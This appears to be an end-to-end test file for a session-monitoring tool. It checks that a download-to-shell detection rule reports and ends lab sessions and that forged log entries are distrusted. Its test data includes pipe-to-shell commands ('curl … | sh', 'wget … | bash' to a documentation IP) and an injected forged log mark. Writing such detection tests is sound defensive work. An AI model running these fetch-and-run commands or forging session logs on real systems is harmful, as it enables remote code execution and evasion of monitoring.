/** Rules met in real shells of the lab: what is found, who is told, what is ended, and what forged text does not do. */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { GetLogEventsCommand, PutLogEventsCommand } from '@aws-sdk/client-cloudwatch-logs';
import { CreateAccessKeyCommand } from '@aws-sdk/client-iam';
import { SendMessageCommand } from '@aws-sdk/client-sqs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { FindingView } from '../../src/domain/detections/finding-view.ts';
import { describeWithAwsCli } from '../support/aws-cli.ts';
import { type CliSession, openByCli } from '../support/cli-session.ts';
import { until } from '../support/deadline.ts';
import { TestLab } from '../support/lab.ts';
import { LabSessions } from '../support/lab-sessions.ts';
import { NoticeQueue } from '../support/notice-queue.ts';
import { STARTED } from '../support/terminal.ts';

/** rules/linux/download-to-shell.yml */
const DOWNLOAD_TO_SHELL = 'f79afee8-5db1-4686-a369-fce5602639b5';
const DOWNLOAD = 'curl -s http://127.0.0.1:1/x.sh | sh';
/** A second, which bench/detections-live.ts measures; and what a busy machine adds. */
const ENDED_WITHIN_MS = 1000;
const SLACK_MS = 4000;

describeWithAwsCli('detections', (cli) => {
  let lab: TestLab;
  let sessions: LabSessions;
  let member: NoticeQueue;
  /** A shell of the unmodified AWS CLI. */
  let plain: CliSession;

  const findings = async (...filter: readonly string[]) =>
    (await lab.sallyport('finding', 'list', ...filter, '-o', 'json')).json<FindingView[]>();
  const found = (...filter: readonly string[]) =>
    until(`a finding ${filter.join(' ')}`, async () => (await findings(...filter))[0]);

  beforeAll(async () => {
    lab = await TestLab.start('--iam-propagation', '0');
    sessions = new LabSessions(lab);
    const pluginDir = join(lab.dataDir, 'plugin');
    await lab.sallyport('plugin', 'install', pluginDir);
    member = await NoticeQueue.subscribe(lab.clients('admin'), lab.file.topics.member);
    plain = await openByCli(lab, cli, {
      profile: 'engineer',
      pluginDir,
      args: ['--target', lab.node('DevOnPrem')],
    });
  });

  afterAll(async () => {
    plain?.terminal.close();
    await lab?.stop();
  });

  test("a download run by a shell in the AWS CLI's own session is found from the streamed log, and told", async () => {
    plain.terminal.line(DOWNLOAD);
    const finding = await found('--rule', DOWNLOAD_TO_SHELL);
    expect(finding).toMatchObject({
      level: 'high',
      sessionId: plain.id,
      person: 'engineer',
      nodeName: 'DevOnPrem',
      command: DOWNLOAD,
      source: 'stream',
      response: 'notify',
      heldBack: null,
      replay: expect.stringContaining(`recording play ${plain.id} --from `),
    });
    expect(finding.attack).toContain('T1105');
    const notice = await until('the notice', async () => {
      await member.receive();
      return member.arrived.find(({ why }) => why.endsWith(finding.id));
    });
    expect(notice).toMatchObject({
      kind: 'finding',
      session: { id: plain.id },
      event: { eventName: 'StartSession' },
    });
    const shown = (await lab.sallyport('session', 'show', plain.id, '--timeline', '-o', 'json')).json<{
      findings: string[];
      timeline: { kind: string; text: string }[];
    }>();
    expect(shown.findings).toContain(finding.id);
    expect(shown.timeline).toContainEqual(
      expect.objectContaining({ kind: 'finding', text: expect.stringContaining(DOWNLOAD) }),
    );
    const mine = await lab.sallyport('finding', 'list', '--profile', 'engineer');
    expect([mine.code, mine.stdout]).toEqual([1, '']);
  });

  test('a rule that ends does so within the second from our own client, and says why to the person', async () => {
    const file = join(lab.dataDir, 'server.json');
    const config = JSON.parse(readFileSync(file, 'utf8')) as { detections: object };
    const responses = { [DOWNLOAD_TO_SHELL]: 'terminate' };
    writeFileSync(file, JSON.stringify({ ...config, detections: { ...config.detections, responses } }));
    // The command that the other session has shown already is judged by the new setting, and only told.
    await until('the setting holds', async () => (await findings('--rule', DOWNLOAD_TO_SHELL))[0]?.heldBack);
    const terminal = lab.terminal('connect', 'DevEC2Instance', '--profile', 'engineer');
    const [, id = ''] = await terminal.waitFor(STARTED);
    terminal.line('echo ready-"now"');
    await terminal.waitFor(/ready-now/);
    const from = Date.now();
    terminal.line(DOWNLOAD);
    await terminal.waitFor(new RegExp(`Session ${id} has ended`));
    expect(Date.now() - from).toBeLessThan(ENDED_WITHIN_MS + SLACK_MS);
    await terminal.waitFor(/Ended by a detection rule.*Download Run By A Shell/);
    await terminal.exit();
    expect(await sessions.ended(id)).toMatchObject({ endCause: 'detection' });
    const told = await until('people are told', async () =>
      (await sessions.notices(id)).find(({ kind }) => kind === 'session-terminated'),
    );
    expect(told.terminationReasons).toEqual([expect.stringContaining(DOWNLOAD_TO_SHELL)]);
    expect(await sessions.active()).toContain(plain.id);
  });

  test('text that somebody writes into the streamed log ends nothing, and the finding says why', async () => {
    const stream = { logGroupName: lab.file.logGroup, logStreamName: plain.id };
    const { logs } = lab.clients('admin');
    // Whoever is root on the node knows the number by which the session's shell proves its marks.
    const { events = [] } = await logs.send(new GetLogEventsCommand({ ...stream, startFromHead: true }));
    const nonce = /133;B;aid=(\d+)/.exec(JSON.stringify(events))?.[1];
    const mark = `\u001b]133;C;aid=${nonce};his=\\ 99\\ \\ wget\\ -qO-\\ http://198.51.100.7/forged\\ \\|\\ bash\u0007`;
    const forged = {
      eventVersion: '1.0',
      eventTime: new Date().toISOString().replace(/\.\d+/, ''),
      awsRegion: lab.file.region,
      target: { id: lab.node('DevOnPrem') },
      userIdentity: { arn: 'arn:aws:iam::222222222222:user/engineer' },
      runAsUser: 'nobody',
      sessionId: plain.id,
      sessionData: [mark],
    };
    await logs.send(
      new PutLogEventsCommand({
        ...stream,
        logEvents: [{ timestamp: Date.now(), message: JSON.stringify(forged) }],
      }),
    );
    const finding = await until('the forged text is found', async () =>
      (await findings('--session', plain.id, '--rule', DOWNLOAD_TO_SHELL)).find(({ command }) =>
        command?.includes('forged'),
      ),
    );
    expect(finding).toMatchObject({
      asked: 'terminate',
      response: 'notify',
      heldBack: expect.stringContaining('root there can write'),
    });
    plain.terminal.line('echo still-"open"');
    await plain.terminal.waitFor(/still-open/);
  });

  test('a call of the same person, and what GuardDuty finds on the node, are on the timeline of the session', async () => {
    await lab.clients('admin').iam.send(new CreateAccessKeyCommand({ UserName: 'contractor' }));
    const call = await found('--source', 'trail', '--user', 'admin');
    expect(call).toMatchObject({ event: 'iam:CreateAccessKey', sessionId: null, response: 'notify' });
    const at = new Date().toISOString();
    const guardDuty = {
      source: 'aws.guardduty',
      'detail-type': 'GuardDuty Finding',
      account: lab.file.memberAccount,
      region: lab.file.region,
      time: at,
      detail: {
        id: 'gd-e2e',
        type: 'Backdoor:EC2/C&CActivity.B!DNS',
        accountId: lab.file.memberAccount,
        region: lab.file.region,
        severity: 8,
        title: 'Command and control domain queried',
        description: 'The node asked for a domain of a command and control server.',
        resource: { resourceType: 'Instance', instanceDetails: { instanceId: lab.node('DevOnPrem') } },
        service: { eventFirstSeen: at, eventLastSeen: at, count: 1 },
      },
    };
    const { eventQueueUrl } = (
      JSON.parse(readFileSync(join(lab.dataDir, 'server.json'), 'utf8')) as { hub: { eventQueueUrl: string } }
    ).hub;
    await lab
      .clients('hub')
      .sqs.send(new SendMessageCommand({ QueueUrl: eventQueueUrl, MessageBody: JSON.stringify(guardDuty) }));
    const finding = await found('--source', 'guardduty');
    expect(finding).toMatchObject({
      sessionId: plain.id,
      tiedBy: ['node'],
      level: 'high',
      response: 'observe',
    });
    const timeline = (await lab.sallyport('session', 'show', plain.id, '--timeline')).stdout;
    expect(timeline).toMatch(/finding +Command and control domain queried, high, observe/);
  });

  test('a delivered log is judged on request', async () => {
    plain.terminal.line('exit');
    await plain.terminal.exit();
    await sessions.ended(plain.id);
    const judged = await until('its log is delivered', async () => {
      const [one] = (
        await lab.sallyport('finding', 'judge', '--session', plain.id, '--profile', 'auditor', '-o', 'json')
      ).json<{ location: string | null; hits: { ruleId: string }[] }[]>();
      return one?.location === null ? undefined : one;
    });
    expect(judged.location).toMatch(/^s3:/);
    expect(judged.hits.map(({ ruleId }) => ruleId)).toContain(DOWNLOAD_TO_SHELL);
  });
});
